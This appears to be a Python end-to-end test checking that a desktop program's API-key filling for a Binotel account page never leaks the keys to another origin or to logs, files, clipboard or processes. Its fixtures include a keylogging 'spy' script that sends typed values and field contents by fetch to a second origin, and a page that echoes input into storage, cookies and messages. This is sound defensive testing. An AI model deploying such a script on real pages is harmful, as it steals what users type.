"""Marked keys through the account window: nobody but the page that they were entered into ever has them.

Pages repeat what is typed into them wherever a page can, and other origins lie in wait. The key goes to the
account when the person saves; everything else is searched for it, the way tests/e2e/test_canary.py does.
"""

from __future__ import annotations

import os
from collections.abc import Iterator
from contextlib import ExitStack
from pathlib import Path
from typing import Any

import pytest
from PySide6.QtCore import QUrl

from tests.doors.tap import Tap, holds, tapped
from tests.e2e import canary_kit as kit
from tests.web.kit import Visitor
from tests.web.site import Site

KEY = "cana01-webKey2"
SECRET = "cana03-cana04-cana05-cana06-webcana7"

# A page that says everything it hears, to whoever wants to know.
PARROT = """<script>
addEventListener("input", (event) => {
  const heard = event.composedPath()[0].value;
  console.log(heard); console.error(new Error(heard)); alert(heard); document.title = heard;
  localStorage.setItem("heard", heard); sessionStorage.setItem("heard", heard); document.cookie = "heard=" + heard;
  setTimeout(() => { throw new Error(heard); }, 0);
  said.textContent = heard;
  for (const each of document.querySelectorAll("iframe")) each.contentWindow.postMessage("typed", "*");
}, true);
</script><p id=said role=status></p>"""
SPY = """<script>
const tell = (what) => fetch("/told?" + encodeURIComponent(what)).catch(() => 0);
addEventListener("input", (event) => tell("input " + event.target.value), true);
addEventListener("message", (event) => tell("message " + event.data));
setInterval(() => {
  for (const each of document.querySelectorAll("input")) if (each.value) tell("held " + each.value);
}, 20);
</script>"""


def form(origin: str) -> str:
    """Binotel's window as that origin would show it."""
    addresses = "".join(
        f"<p>{which}: {origin}/tel/binotel/{which}" for which in ("push", "settings", "completed")
    )
    return (
        f"<form method=post action=/save>{addresses}<p>API Key <input name=k><p>Secret Key <input name=s>"
        "<p><button>Сохранить</button></form>"
    )


class Place:
    """One server with two names: the account's, and one that is nobody's."""

    def __init__(self, site: Site, account: Tap, other: Tap) -> None:
        self.site = site
        self.heard = account
        self.overheard = other
        self.origin = f"http://{account.authority}"
        # By another name: cookies know no ports.
        self.other = f"http://localhost:{other.authority.rpartition(':')[2]}"


@pytest.fixture
def place(site: Site) -> Iterator[Place]:
    with ExitStack() as stack:
        account, other = (stack.enter_context(tapped(site.port)) for _ in range(2))
        yield Place(site, account, other)


def refused(visitor: Visitor, there: str) -> None:
    """The page is on its way or there; a click fills nothing of it."""
    visitor.until(f"location.origin === {there!r} && document.readyState === 'complete'")
    for name in ("fillButton", "verifyButton", "readAddressesButton"):
        visitor.press(name, "wrong_origin")


def test_a_key_is_nowhere_but_in_the_page_it_was_entered_into(
    place: Place, qtbot: Any, config_dir: Path, capfd: Any, opened_urls: list[str]
) -> None:
    site = place.site
    site.pages |= {
        "/": PARROT
        + form(place.origin)
        + f"<iframe src='{place.other}/spy' style='width:600px;height:300px'></iframe>",
        "/spy": SPY + form(place.origin),
        "/away": f"-> {place.other}/spy",
        "/twice": "-> /away",
        "/leaves": form(place.origin)
        + f"<script>setTimeout(() => {{ location = '{place.other}/spy'; }}, 250)</script>",
        "/around": SPY
        + f"<iframe src='{place.origin}/' style='width:700px;height:500px'></iframe>",
        "/told": "",
    }
    site.origin = place.origin
    home = Path(os.environ["HOME"])
    with kit.Records() as records:
        visitor = Visitor(qtbot, config_dir, site)
        visitor.keys(KEY, SECRET)
        visitor.open()
        for start in ("/away", "/twice"):
            visitor.view.page().setUrl(QUrl(place.origin + start))
            refused(visitor, place.other)
        for path in ("/spy", "/around"):
            visitor.go(place.other + path)
            refused(visitor, place.other)
        # Filled or not: the page is left while the program is at it.
        visitor.view.page().setUrl(QUrl(place.origin + "/leaves"))
        visitor.find("fillButton").click()
        visitor.until(f"location.origin === {place.other!r}")
        visitor.qtbot.waitUntil(lambda: visitor.said()[0] != "busy", timeout=30_000)
        assert holds(bytes(place.heard.heard), KEY, SECRET) == [], "nobody saved anything"

        visitor.go("/")
        visitor.press("fillButton", "filled")
        assert visitor.js("said.textContent") == SECRET, "the page did repeat it"
        assert holds(bytes(place.heard.heard), KEY, SECRET) == []
        visitor.js("document.querySelector('button').click(); 1")
        visitor.qtbot.waitUntil(lambda: bool(site.posted), timeout=30_000)
        assert site.posted == [{"k": KEY, "s": SECRET}]
        assert holds(bytes(place.heard.heard), KEY, SECRET) == [KEY, SECRET], "or nothing is found"
        assert b"/told?message" in bytes(place.overheard.heard), "the spy did listen"
        assert holds(bytes(place.overheard.heard), KEY, SECRET) == []

        seen = [*kit.windows_of(visitor.window), *kit.windows_of(visitor.account)]
        assert kit.masked(visitor.window)
        running = list(kit.processes_of_now())
        visitor.close()
    out, err = capfd.readouterr()
    places: list[kit.Place] = [
        *seen,
        *running,
        *records.places(),
        *kit.files_of(home),
        *kit.files_of(config_dir),
        *kit.exceptions_of_now(),
        *kit.clipboard_of_now(),
        ("stdout", out),
        ("stderr", err),
        ("addresses opened", "\n".join(opened_urls)),
    ]
    assert len(places) > 100, "or nothing was searched"
    assert kit.found(places, (KEY, SECRET)) == []
    assert out == ""
